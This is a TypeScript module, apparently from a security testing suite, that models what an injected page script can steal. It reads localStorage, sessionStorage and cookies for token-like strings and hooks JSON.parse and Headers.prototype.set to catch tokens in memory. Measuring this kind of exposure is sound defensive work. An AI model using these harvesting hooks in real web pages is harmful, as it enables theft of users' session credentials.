/**
 * What a script that got into the page can take: it reads what lies open, and puts itself between the page and the
 * language to see what passes in memory.
 * @module
 */
import type { Loot } from '../attacks/script.ts'

const credential = /hs[sr]1\.[\w-]+\.[\w-]+|eyJ[\w-]+\.[\w-]+\.[\w-]+/g

/** Everything in reach. `next` is what the page would do next by itself, for a script in memory to listen to. */
export async function takeLoot(next: () => Promise<unknown>): Promise<readonly Loot[]> {
  const open = [
    { place: 'localStorage', credentials: read(() => Object.values(localStorage).join('\n')) },
    { place: 'sessionStorage', credentials: read(() => Object.values(sessionStorage).join('\n')) },
    { place: 'document.cookie', credentials: read(() => document.cookie) },
  ]
  return [...open, { place: 'the page’s memory', credentials: await overhear(next) }]
}

function read(place: () => string): readonly string[] {
  try {
    return found(place())
  } catch {
    return []
  }
}

/** No module can hide what it hands to the language itself; a real script would stay here, and wait. */
async function overhear(next: () => Promise<unknown>): Promise<readonly string[]> {
  const heard: string[] = []
  const { parse } = JSON
  const { set } = Headers.prototype
  JSON.parse = (text, reviver) => {
    heard.push(...found(text))
    return parse(text, reviver)
  }
  Headers.prototype.set = function (name, value) {
    heard.push(...found(value))
    set.call(this, name, value)
  }
  try {
    await next()
  } finally {
    JSON.parse = parse
    Headers.prototype.set = set
  }
  return [...new Set(heard)]
}

function found(text: unknown): readonly string[] {
  return String(text).match(credential) ?? []
}
